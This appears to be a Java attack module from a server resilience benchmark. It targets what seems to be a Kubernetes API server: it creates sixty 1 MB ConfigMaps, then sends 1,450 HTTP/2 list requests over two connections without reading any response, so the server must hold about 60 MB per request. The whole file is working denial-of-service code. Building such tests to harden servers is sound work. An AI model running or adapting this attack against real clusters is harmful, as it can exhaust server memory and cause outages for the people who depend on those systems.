package dev.stint.bench.attack;

import java.io.ByteArrayOutputStream;
import java.io.IOException;

/** Requests for lists of 60 MB each, of which nothing is read. */
final class UnreadLists implements Attack {
  private static final int CONFIG_MAPS = 60;
  private static final int STREAMS = 725;

  @Override
  public String name() {
    return "lists";
  }

  @Override
  public String description() {
    return "1,450 unread lists of 60 ConfigMaps of 1 MB on two HTTP/2 connections";
  }

  @Override
  public String run(Scene scene) throws Exception {
    String value = "x".repeat(1_000_000);
    Answers created = new Answers();
    for (int i = 0; i < CONFIG_MAPS; i++) {
      created.add(
          scene
              .attacker()
              .send(
                  "POST",
                  Scene.CORE + "configmaps",
                  "{\"metadata\":{\"name\":\"c%d\"},\"data\":{\"k\":\"%s\"}}".formatted(i, value))
              .code());
    }
    int sent = 0;
    for (int connection = 0; connection < 2; connection++) {
      sent += ask(scene);
    }
    Thread.sleep(20_000);
    return "%s creations; %,d list requests sent".formatted(created, sent);
  }

  private static int ask(Scene scene) throws IOException {
    RawConnection connection = scene.hold(scene.target().connect("h2", 5_000));
    connection.send(Http2Frames.preface());
    byte[] head = Http2Frames.head("GET", Scene.CORE + "configmaps", scene.token());
    int sent = 0;
    try {
      for (; sent < STREAMS; sent++) {
        ByteArrayOutputStream frame = new ByteArrayOutputStream();
        int flags = Http2Frames.END_STREAM | Http2Frames.END_HEADERS;
        frame.writeBytes(Http2Frames.frame(Http2Frames.HEADERS, flags, 2 * sent + 1, head));
        connection.send(frame.toByteArray());
      }
    } catch (IOException closed) {
      // The server has closed the connection.
    }
    return sent;
  }
}
